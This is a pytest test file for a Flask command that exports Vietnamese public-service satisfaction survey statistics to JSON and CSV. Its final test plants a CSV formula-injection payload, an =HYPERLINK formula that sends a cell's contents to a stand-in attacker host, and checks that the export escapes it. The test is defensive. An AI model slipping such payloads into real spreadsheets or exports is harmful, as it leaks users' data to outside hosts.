"""`flask report export|refresh`: the files read back and checked against the inserted rows."""
from __future__ import annotations

import csv
import io
import json
from datetime import timedelta, timezone

import pandas as pd
import pytest
from scipy import stats

from tests.reporting.test_reports import seed

VN = timezone(timedelta(hours=7))
ACCESS_1 = "Nơi ngồi chờ tại Bộ phận Một cửa có đủ chỗ ngồi"


@pytest.fixture
def ledger(app):
    return seed(app, n=120, seed_value=8)


def pct(rows, item: str) -> tuple[int, float]:
    """n and (n4 + n5) / (n1 + … + n5) for one item, counted from the inserted rows."""
    codes = [r.answers[item] for r in rows if 1 <= r.answers.get(item, 0) <= 5]
    return len(codes), 100 * sum(c >= 4 for c in codes) / len(codes)


def export(runner, *args: str):
    return runner.invoke(args=["report", "export", "--questionnaire", "sipas-local", *args])


def test_json_export_has_the_figures_verdicts_and_exclusions(app, runner, ledger, tmp_path):
    out = tmp_path / "bao-cao.json"
    result = export(runner, "--by", "unit,field,period", "--period", "year", "--out", str(out))
    assert result.exit_code == 0, result.output
    data = json.loads(out.read_text(encoding="utf-8"))
    assert set(data) >= {"method", "figures", "verdicts", "exclusions", "questionnaire"}
    rows = [r for r in ledger if r.unit == "X1" and r.field == "dat-dai" and r.source == "feedback" and not r.flags]
    n, expected = pct(rows, "access_1")
    figure = next(f for f in data["figures"] if f["level"] == "criterion" and f["item"] == "access_1"
                  and f["unit"] == "X1" and f["field"] == "dat-dai" and f["source"] == "feedback")
    assert figure["n"] == n and figure["pct"] == pytest.approx(expected)
    assert figure["ci_low"] < figure["pct"] < figure["ci_high"]
    assert figure["unit_name"] == "Xã Minh Tiến" and figure["item_label"] == ACCESS_1
    assert figure["field_name"] == "Đất đai" and figure["element_name"] == "1. Tiếp cận dịch vụ"
    overall = next(f for f in data["figures"] if f["level"] == "overall_item" and f["unit"] == "P"
                   and f["field"] == "all" and f["source"] == "feedback" and f["period"] == "2025")
    province = [r for r in ledger if r.unit and r.source == "feedback" and not r.flags]
    assert (overall["n"], overall["pct"]) == (len(province), pytest.approx(pct(province, "overall")[1]))
    flagged = [r for r in ledger if r.flags]
    assert data["exclusions"]["excluded"] is True
    assert data["exclusions"]["responses"] == len(flagged)
    assert data["exclusions"]["by_reason"] == {reason: sum(r.reason == reason for r in flagged) for reason in {r.reason for r in flagged}}
    assert "Wilson" in data["method"]["interval"] and "bundled files" in data["method"]["targets"]
    verdict = next(v for v in data["verdicts"] if v["target_id"] == "nq76-2025-tthc" and v["unit"] == "P" and v["source"] == "feedback")
    assert verdict["verdict"] in ("dat", "khong_dat", "chua_du_co_so", "chua_du_du_lieu") and verdict["n"] == overall["n"]
    assert "76/NQ-CP" in verdict["source_document"]
    assert (verdict["period"], verdict["target_period"]) == ("2025", "2025")
    assert {"p_at_least_target", "p_below_target", "p_holm_test"} <= set(verdict) and "p_value" not in verdict
    assert {v["target_period"] for v in data["verdicts"]} == {"2025"}  # no 2030 target judged on 2025 figures


def test_without_period_there_are_no_verdicts_and_the_export_says_so(app, runner, ledger, tmp_path, monkeypatch):
    """Issue #11 item 8: 2025 and any other year pooled are never judged against a dated target."""
    monkeypatch.setenv("LANG", "vi_VN.UTF-8")
    out = tmp_path / "gop.json"
    result = export(runner, "--by", "unit,field", "--out", str(out))
    assert result.exit_code == 0, result.output
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["verdicts"] == [] and data["figures"]
    assert "thêm 'period' vào --by" in result.stderr and "'period' in the report's grouping" in data["messages"][0]


def test_csv_export_writes_the_verdicts_beside_the_figures(app, runner, ledger, tmp_path, monkeypatch):
    """Issue #11 item 9: the CSV carries the verdicts too, in a second file the CLI names."""
    monkeypatch.setenv("LANG", "vi_VN.UTF-8")
    out = tmp_path / "bao-cao.csv"
    result = export(runner, "--format", "csv", "--by", "unit,period", "--period", "year", "--out", str(out))
    assert result.exit_code == 0, result.output
    verdicts_file = tmp_path / "bao-cao-chi-tieu.csv"
    assert f"vào {out}" in result.stderr and f"vào {verdicts_file}" in result.stderr
    assert verdicts_file.read_bytes().startswith(b"\xef\xbb\xbf")
    verdicts = pd.read_csv(verdicts_file, encoding="utf-8-sig", dtype={"period": str, "target_period": str})
    row = verdicts[(verdicts["target_id"] == "nq76-2025-tthc") & (verdicts["unit"] == "P")
                   & (verdicts["source"] == "feedback")].iloc[0]
    figures = pd.read_csv(out, encoding="utf-8-sig", dtype={"period": str})
    overall = figures[(figures["level"] == "overall_item") & (figures["unit"] == "P") & (figures["source"] == "feedback")].iloc[0]
    assert (row["n"], row["period"], row["target_period"]) == (overall["n"], "2025", "2025")
    x, n = round(overall["pct"] / 100 * overall["n"]), int(overall["n"])
    assert row["p_at_least_target"] == pytest.approx(stats.binomtest(x, n, 0.9, alternative="greater").pvalue)
    assert row["p_below_target"] == pytest.approx(stats.binomtest(x, n, 0.9, alternative="less").pvalue)
    monkeypatch.setenv("LANG", "en_US.UTF-8")
    result = export(runner, "--format", "csv", "--by", "unit,period", "--period", "year", "--out", str(out))
    assert f"to {verdicts_file}" in result.stderr


def test_csv_export_is_the_figures_table_for_excel(app, runner, ledger, tmp_path):
    out = tmp_path / "bao-cao.csv"
    result = export(runner, "--format", "csv", "--by", "field,period", "--period", "quarter", "--level", "criterion",
                    "--source", "feedback", "--out", str(out))
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to show Vietnamese"
    table = pd.read_csv(out, encoding="utf-8-sig")
    assert set(table["level"]) == {"criterion"} and set(table["source"]) == {"feedback"}
    assert len(table) == 22 * table[["field", "period"]].drop_duplicates().shape[0]
    row = table[(table["field"] == "tu-phap-ho-tich") & (table["period"] == "2025Q1") & (table["item"] == "staff_3")].iloc[0]
    rows = [r for r in ledger if r.field == "tu-phap-ho-tich" and r.source == "feedback" and not r.flags
            and r.when.astimezone(VN).month <= 3]
    n, expected = pct(rows, "staff_3")
    assert row["n"] == n and row["pct"] == pytest.approx(expected)
    records = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert records[0]["item_label"] and any(r["field_name"] == "Tư pháp – Hộ tịch" for r in records)
    assert any(r["item_label"] == ACCESS_1 for r in records)


def test_stdout_custom_dates_and_flagged_included(app, runner, ledger):
    result = export(runner, "--by", "unit", "--from", "10/02/2025", "--to", "2025-03-20", "--include-flagged",
                    "--level", "overall")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert {f["level"] for f in data["figures"]} == {"overall_index", "overall_item"}
    day = lambda r: r.when.astimezone(VN).date().isoformat()  # noqa: E731
    rows = [r for r in ledger if r.unit in ("D1", "X1", "X2") and r.source == "feedback" and "2025-02-10" <= day(r) <= "2025-03-20"]
    figure = next(f for f in data["figures"] if f["level"] == "overall_item" and f["unit"] == "D1" and f["source"] == "feedback")
    assert (figure["n"], figure["pct"]) == (len(rows), pytest.approx(pct(rows, "overall")[1]))
    assert any(r.flags for r in rows), "the flagged responses are in"
    assert data["exclusions"]["excluded"] is False and data["method"]["flagged"] == "included"
    assert data["method"]["selection"]["since"] == "2025-02-10"


def test_breakdown_by_a_demographic_item(app, runner, ledger):
    result = export(runner, "--by", "gender", "--level", "overall")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    women = [r for r in ledger if r.answers.get("gender") == 2 and r.source == "feedback" and not r.flags]
    figure = next(f for f in data["figures"] if f["level"] == "overall_item" and f["gender"] == 2 and f["source"] == "feedback")
    assert (figure["n"], figure["pct"]) == (len(women), pytest.approx(pct(women, "overall")[1]))
    assert "raw answers" in data["method"]["data"]


def test_empty_selection_is_an_empty_but_valid_export(app, runner, ledger, tmp_path):
    result = export(runner, "--from", "01/01/2030", "--to", "31/12/2030")
    assert result.exit_code == 0
    assert "No responses to sipas-local match this selection (from 01/01/2030 to 31/12/2030)" in result.stderr
    data = json.loads(result.stdout)
    assert data["figures"] == [] and data["verdicts"] == [] and data["exclusions"]["responses"] == 0
    out = tmp_path / "rong.csv"
    assert export(runner, "--format", "csv", "--unit", "X3", "--field", "xay-dung", "--source", "sample",
                  "--from", "01/01/2030", "--out", str(out)).exit_code == 0
    assert pd.read_csv(out, encoding="utf-8-sig").empty


def test_bad_filters_are_one_clear_line(app, runner):
    for args, message in [
        (["--unit", "ZZ"], "unknown unit code 'ZZ'"),
        (["--field", "dat"], "unknown field code 'dat'"),
        (["--by", "unit,mood"], "unknown breakdown mood"),
        (["--from", "01/04/2025", "--to", "01/03/2025"], "ends (01/03/2025) before it starts (01/04/2025)"),
    ]:
        result = export(runner, *args)
        assert result.exit_code == 1, args
        assert message in result.output and "Traceback" not in result.output


def test_bad_values_and_questionnaires(app, runner):
    bad_date = export(runner, "--from", "32/01/2025")
    assert bad_date.exit_code == 2 and "--from" in bad_date.output and "'32/01/2025' is not a date" in bad_date.output
    unknown = runner.invoke(args=["report", "export", "--questionnaire", "sipas-2099"])
    assert unknown.exit_code == 1 and "unknown questionnaire 'sipas-2099' (published: " in unknown.output
    source = export(runner, "--source", "both")
    assert source.exit_code == 2 and "--source" in source.output


def test_refresh_rebuilds_months_and_then_has_nothing_to_do(app, runner, ledger, monkeypatch):
    monkeypatch.setenv("LC_ALL", "en_US.UTF-8")
    first = runner.invoke(args=["report", "refresh"])
    assert first.exit_code == 0, first.output
    months = {r.when.astimezone(VN).strftime("%Y-%m") for r in ledger}
    assert f"{len(months)} month(s) rebuilt" in first.output
    assert "up to date" in runner.invoke(args=["report", "refresh"]).output
    full = runner.invoke(args=["report", "refresh", "--full"])
    assert full.exit_code == 0 and f"{len(months)} month(s) rebuilt" in full.output
    monkeypatch.setenv("LC_ALL", "vi_VN.UTF-8")
    assert "Số liệu báo cáo đã cập nhật đầy đủ." in runner.invoke(args=["report", "refresh"]).output


def test_csv_export_neutralises_formulas_in_names_and_keeps_numbers(app, runner, ledger, tmp_path):
    """A unit named like a formula (the review's =HYPERLINK) goes out as text; figures stay numbers."""
    from sqlalchemy import select

    from survey.db import get_session
    from survey.models import Unit

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Xã Minh Tiến")'
    with app.app_context():
        session = get_session()
        session.scalar(select(Unit).filter_by(code="X1")).name = evil
        session.commit()
    out = tmp_path / "bao-cao.csv"
    result = export(runner, "--format", "csv", "--by", "unit", "--level", "criterion", "--out", str(out))
    assert result.exit_code == 0, result.output
    records = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    names = {r["unit_name"] for r in records if r["unit"] == "X1"}
    assert names == {"'" + evil}
    for record in records:
        for value in record.values():
            if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(value.replace(",", "."))  # only plain numbers may start that way
    table = pd.read_csv(out, encoding="utf-8-sig")
    assert table["n"].dtype.kind == "i" and table["pct"].dtype.kind == "f"
